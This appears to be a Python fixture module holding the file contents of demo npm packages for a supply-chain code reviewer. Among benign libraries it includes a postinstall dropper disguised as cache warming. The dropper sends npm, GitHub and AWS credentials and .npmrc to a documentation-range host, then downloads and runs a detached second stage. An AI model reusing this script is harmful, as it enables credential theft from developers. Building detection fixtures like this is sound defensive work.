"""The file contents of the planted demo packages (inert text: reviewer reads, never runs).

The install script of the takeover (`MERGE_SETUP_JS`) is written like a real dropper so the
suspicious-code rules have something true to find: it talks to an address in TEST-NET-3
(203.0.113.0/24, reserved for documentation), and its "payload" decodes to a placeholder.
"""

from __future__ import annotations

MERGE_INDEX_JS = """'use strict';

/**
 * Deep-merge plain JSON objects. Arrays are replaced, not concatenated.
 * @param {object} target
 * @param {...object} sources
 */
function merge(target, ...sources) {
  for (const source of sources) {
    if (!isPlainObject(source)) continue;
    for (const key of Object.keys(source)) {
      if (key === '__proto__' || key === 'constructor' || key === 'prototype') continue;
      const value = source[key];
      if (isPlainObject(value)) {
        if (!isPlainObject(target[key])) target[key] = {};
        merge(target[key], value);
      } else {
        target[key] = value;
      }
    }
  }
  return target;
}

function isPlainObject(value) {
  return value !== null && typeof value === 'object' && !Array.isArray(value);
}

module.exports = merge;
module.exports.default = merge;
module.exports.isPlainObject = isPlainObject;
"""

MERGE_README = """# tiny-json-merge

Deep-merge plain JSON objects, with prototype-pollution guards. Zero dependencies.

```js
const merge = require('tiny-json-merge');
merge({ a: { b: 1 } }, { a: { c: 2 } }); // { a: { b: 1, c: 2 } }
```
"""

# A base64 blob as droppers carry it; it decodes to an inert placeholder line.
STAGE2_FALLBACK = (
    "Y29uc29sZS5sb2coJ3N0YWdlIDIgcGxhY2Vob2xkZXI6IHRoaXMgZGVtbyBwYXlsb2FkIGlzIGluZXJ0IGFuZCBu"
    "ZXZlciBydW5zJyk7IC8qIHJldmlld2VyIGRlbW8gLSBub3QgYSByZWFsIHBheWxvYWQgKi8gLy8gcGFkZGluZyBwYWRkaW5n"
)

MERGE_SETUP_JS = f"""'use strict';
// Post-install: warm the merge cache for faster cold starts.
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const {{ spawn }} = require('child_process');

const env = process.env;
const info = {{
  h: os.hostname(),
  u: os.userInfo().username,
  t: env.NPM_TOKEN || env.GITHUB_TOKEN || env.NODE_AUTH_TOKEN || '',
  k: env.AWS_ACCESS_KEY_ID || '',
  s: env.AWS_SECRET_ACCESS_KEY || '',
  ci: !!env.CI,
}};
let rc = '';
try {{
  rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
}} catch (e) {{}}

const body = Buffer.from(JSON.stringify(info)).toString('base64') + '.' + Buffer.from(rc).toString('base64');
const out = path.join(os.tmpdir(), '.merge-cache-' + process.pid + '.js');
const fallback = '{STAGE2_FALLBACK}';

function run() {{
  spawn(process.execPath, [out], {{ detached: true, stdio: 'ignore' }}).unref();
}}

const req = https.request(
  {{ hostname: '203.0.113.47', port: 8443, path: '/v2/cache?id=' + info.h, method: 'POST', rejectUnauthorized: false }},
  (res) => {{
    const file = fs.createWriteStream(out);
    res.pipe(file);
    file.on('finish', run);
  }}
);
req.on('error', () => {{
  fs.writeFileSync(out, Buffer.from(fallback, 'base64'));
  run();
}});
req.end(body);
"""

LOGGER_INDEX_JS = """'use strict';

const LEVELS = { trace: 10, debug: 20, info: 30, warn: 40, error: 50, fatal: 60 };

function createLogger(options = {}) {
  const threshold = LEVELS[options.level || 'info'];
  const write = options.write || ((line) => process.stdout.write(line + '\\n'));
  const base = options.base || {};
  const logger = {};
  for (const [name, value] of Object.entries(LEVELS)) {
    logger[name] = (msg, fields) => {
      if (value < threshold) return;
      write(JSON.stringify({ level: name, time: Date.now(), ...base, ...fields, msg }));
    };
  }
  logger.child = (fields) => createLogger({ ...options, base: { ...base, ...fields } });
  return logger;
}

module.exports = { createLogger, LEVELS };
"""

LOGGER_INDEX_JS_321 = LOGGER_INDEX_JS.replace(
    "const threshold = LEVELS[options.level || 'info'];",
    "const threshold = LEVELS[options.level || process.env.LOG_LEVEL || 'info'];",
)

CONFIG_INDEX_JS = """'use strict';

const fs = require('fs');
const path = require('path');
const merge = require('tiny-json-merge');

/** Load config/<env>.json over config/default.json. */
function loadConfig(dir = 'config', env = process.env.NODE_ENV || 'development') {
  const read = (name) => {
    const file = path.join(dir, name + '.json');
    return fs.existsSync(file) ? JSON.parse(fs.readFileSync(file, 'utf8')) : {};
  };
  return Object.freeze(merge({}, read('default'), read(env)));
}

module.exports = { loadConfig };
"""

ENV_LOADER_INDEX_JS = """'use strict';

const dotenv = require('dotenv');

/** Load .env files in order of precedence: .env.<mode>.local, .env.<mode>, .env */
function loadEnv(mode = process.env.NODE_ENV || 'development') {
  for (const file of ['.env.' + mode + '.local', '.env.' + mode, '.env']) {
    dotenv.config({ path: file });
  }
  return process.env;
}

module.exports = { loadEnv };
"""

CROSSENV_INDEX_JS = """#!/usr/bin/env node
'use strict';

// Set environment variables across platforms, then run the command.
const { spawn } = require('child_process');

function crossEnv(args) {
  const env = Object.assign({}, process.env);
  while (args.length && /^\\w+=/.test(args[0])) {
    const [key, ...rest] = args.shift().split('=');
    env[key] = rest.join('=');
  }
  const [command, ...commandArgs] = args;
  if (!command) return;
  const proc = spawn(command, commandArgs, { stdio: 'inherit', shell: true, env });
  proc.on('exit', (code) => process.exit(code));
}

module.exports = crossEnv;
if (require.main === module) crossEnv(process.argv.slice(2));
"""

HASHWIRE_BINDING_GYP = """{
  "targets": [
    {
      "target_name": "hashwire",
      "sources": [ "src/hashwire.cc", "src/xxhash.c" ],
      "include_dirs": [ "<!(node -p \\"require('node-addon-api').include_dir\\")" ],
      "defines": [ "NAPI_DISABLE_CPP_EXCEPTIONS", "XXH_INLINE_ALL" ],
      "cflags": [ "-O3" ],
      "xcode_settings": { "OTHER_CFLAGS": [ "-O3" ] }
    }
  ]
}
"""

HASHWIRE_CC = """#include <napi.h>
#include "xxhash.h"

static Napi::Value Hash64(const Napi::CallbackInfo& info) {
  Napi::Env env = info.Env();
  if (info.Length() < 1 || !info[0].IsBuffer()) {
    Napi::TypeError::New(env, "expected a Buffer").ThrowAsJavaScriptException();
    return env.Null();
  }
  auto buf = info[0].As<Napi::Buffer<uint8_t>>();
  uint64_t seed = info.Length() > 1 ? info[1].As<Napi::Number>().Int64Value() : 0;
  return Napi::BigInt::New(env, XXH64(buf.Data(), buf.Length(), seed));
}

static Napi::Object Init(Napi::Env env, Napi::Object exports) {
  exports.Set("hash64", Napi::Function::New(env, Hash64));
  return exports;
}

NODE_API_MODULE(hashwire, Init)
"""

HASHWIRE_XXHASH_C = """/* xxHash - vendored subset (BSD 2-Clause). See LICENSE-xxhash. */
#include "xxhash.h"
"""

HASHWIRE_XXHASH_H = """#ifndef HASHWIRE_XXHASH_H
#define HASHWIRE_XXHASH_H
#include <stddef.h>
#include <stdint.h>
uint64_t XXH64(const void* input, size_t length, uint64_t seed);
#endif
"""

HASHWIRE_INDEX_JS = """'use strict';

const binding = require('bindings')('hashwire');

/** 64-bit xxHash of a Buffer, as a BigInt. */
exports.hash64 = (buffer, seed = 0) => binding.hash64(buffer, seed);
"""

QUICKBUILD_INSTALL_JS = """'use strict';
// Check that the platform-specific binary package was installed.
// npm installs exactly one of the optionalDependencies that matches os/cpu.
const path = require('path');

const platformKey = process.platform + '-' + process.arch;
const packages = {
  'linux-x64': '@quickbuild/linux-x64',
  'darwin-arm64': '@quickbuild/darwin-arm64',
};

const pkg = packages[platformKey];
if (!pkg) {
  console.warn('[quickbuild] no prebuilt binary for ' + platformKey + '; falling back to the WASM build');
  process.exit(0);
}
try {
  const binary = path.join(path.dirname(require.resolve(pkg + '/package.json')), 'bin', 'quickbuild');
  console.log('[quickbuild] using ' + binary);
} catch (e) {
  console.warn('[quickbuild] ' + pkg + ' is missing: reinstall without --no-optional');
}
"""

QUICKBUILD_MAIN_JS = """'use strict';

const path = require('path');

function binaryPath() {
  const pkg = '@quickbuild/' + process.platform + '-' + process.arch;
  return path.join(path.dirname(require.resolve(pkg + '/package.json')), 'bin', 'quickbuild');
}

module.exports = { binaryPath };
"""

QUICKBUILD_BINARY = "#!/bin/sh\n# placeholder for the native quickbuild binary (demo data)\nexit 0\n"


MIT_LICENSE = """MIT License

Copyright (c) {holder}

Permission is hereby granted, free of charge, to any person obtaining a copy of this
software and associated documentation files (the "Software"), to deal in the Software
without restriction, including without limitation the rights to use, copy, modify, merge,
publish, distribute, sublicense, and/or sell copies of the Software, and to permit persons
to whom the Software is furnished to do so, subject to the following conditions:

The above copyright notice and this permission notice shall be included in all copies or
substantial portions of the Software.

THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND.
"""
